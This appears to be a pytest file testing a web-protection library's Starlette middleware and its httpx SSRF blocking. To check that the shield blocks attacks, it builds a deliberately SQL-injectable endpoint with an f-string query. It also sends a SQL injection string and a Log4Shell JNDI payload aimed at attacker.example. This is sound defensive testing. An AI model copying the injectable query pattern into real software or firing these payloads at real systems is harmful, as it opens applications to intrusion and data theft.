"""The FastAPI/Starlette recipe of docs/shield.md, and httpx clients at the SSRF hooks.

Starlette and httpx are test-only dependencies (the dev extra); skipped when absent.
"""

from __future__ import annotations

import asyncio
import socket
import sqlite3
from collections.abc import Callable, Iterator
from pathlib import Path
from typing import Any

import pytest

from soryoku.shield import ShieldBlockedError, ShieldConfig, install, protect, request_scope, uninstall
from soryoku.shield.context import RequestContext

starlette_applications = pytest.importorskip(
    "starlette.applications", reason="Starlette not installed (dev extra)"
)
httpx = pytest.importorskip("httpx", reason="httpx not installed (dev extra)")
from starlette.requests import Request  # noqa: E402
from starlette.responses import JSONResponse  # noqa: E402
from starlette.routing import Route  # noqa: E402

MakeContext = Callable[..., RequestContext]


Response = tuple[int, dict[str, str], bytes]


def _call(app: Any, method: str, path: str, query: str = "", body: bytes = b"") -> Response:
    """One request straight through the ASGI interface (Starlette's TestClient wants httpx2)."""
    headers = [(b"host", b"shop.example")]
    if body:
        headers += [(b"content-type", b"application/json"), (b"content-length", str(len(body)).encode())]
    scope = {
        "type": "http",
        "asgi": {"version": "3.0"},
        "http_version": "1.1",
        "method": method,
        "scheme": "http",
        "path": path,
        "raw_path": path.encode(),
        "root_path": "",
        "query_string": query.encode(),
        "headers": headers,
        "client": ("198.51.100.30", 40000),
        "server": ("shop.example", 80),
    }
    messages = [{"type": "http.request", "body": body, "more_body": False}]
    sent: list[dict[str, Any]] = []

    async def receive() -> dict[str, Any]:
        return messages.pop(0) if messages else {"type": "http.disconnect"}

    async def send(message: dict[str, Any]) -> None:
        sent.append(message)

    asyncio.run(app(scope, receive, send))
    start = next(m for m in sent if m["type"] == "http.response.start")
    data = b"".join(m.get("body", b"") for m in sent if m["type"] == "http.response.body")
    return start["status"], {k.decode(): v.decode() for k, v in start["headers"]}, data


@pytest.fixture
def client(tmp_path: Path) -> Iterator[Callable[..., Response]]:
    db = tmp_path / "shop.db"
    conn = sqlite3.connect(db)
    conn.execute("CREATE TABLE items (id INTEGER, name TEXT)")
    conn.execute("INSERT INTO items VALUES (1, 'red shoes')")
    conn.commit()
    conn.close()

    def items(request: Request) -> JSONResponse:  # a sync endpoint: Starlette runs it in a thread
        name = request.query_params["name"]
        with sqlite3.connect(db) as conn:
            rows = conn.execute(f"SELECT id FROM items WHERE name = '{name}'").fetchall()
        return JSONResponse({"ids": [r[0] for r in rows]})

    async def echo(request: Request) -> JSONResponse:
        return JSONResponse(await request.json())

    app = starlette_applications.Starlette(
        routes=[Route("/items", items), Route("/echo", echo, methods=["POST"])]
    )
    guarded = protect(app, ShieldConfig(mode="block"))
    yield lambda *args: _call(guarded, *args)


def test_starlette_clean_traffic(client: Callable[..., Response]) -> None:
    assert client("GET", "/items", "name=red+shoes")[::2] == (200, b'{"ids":[1]}')
    assert client("POST", "/echo", "", b'{"name": "O\'Brien"}')[::2] == (200, b'{"name":"O\'Brien"}')


def test_starlette_sink_block_in_a_threadpool_endpoint_is_403(client: Callable[..., Response]) -> None:
    status, headers, _ = client("GET", "/items", "name=x%27+OR+%271%27%3D%271")
    assert (status, headers["x-soryoku-block"]) == (403, "sqli:token_structure")


def test_starlette_request_rules(client: Callable[..., Response]) -> None:
    status, headers, _ = client("POST", "/echo", "", b'{"q": "${jndi:ldap://attacker.example/a}"}')
    assert (status, headers["x-soryoku-block"]) == (403, "known_bad_inputs:log4shell")


@pytest.fixture
def private_resolver(monkeypatch: pytest.MonkeyPatch) -> Iterator[None]:
    def getaddrinfo(host: Any, port: Any, *args: Any, **kwargs: Any) -> Any:
        return [(socket.AF_INET, socket.SOCK_STREAM, 6, "", ("10.0.0.7", port or 0))]

    monkeypatch.setattr(socket, "getaddrinfo", getaddrinfo)
    install()
    yield
    uninstall()


def test_httpx_sync_and_async_clients(private_resolver: None, make_context: MakeContext) -> None:
    url = "http://intranet.example/admin"
    with request_scope(make_context(url)) as ctx:
        with (
            httpx.Client(proxy="http://proxy.example:3128") as sync_client,
            pytest.raises(ShieldBlockedError),
        ):
            sync_client.get(url)

        async def fetch() -> None:
            async with httpx.AsyncClient() as async_client:
                await async_client.get(url)

        with pytest.raises(ShieldBlockedError):
            asyncio.run(fetch())
    assert [e.rule_id for e in ctx.events] == ["ssrf:private", "ssrf:private"]
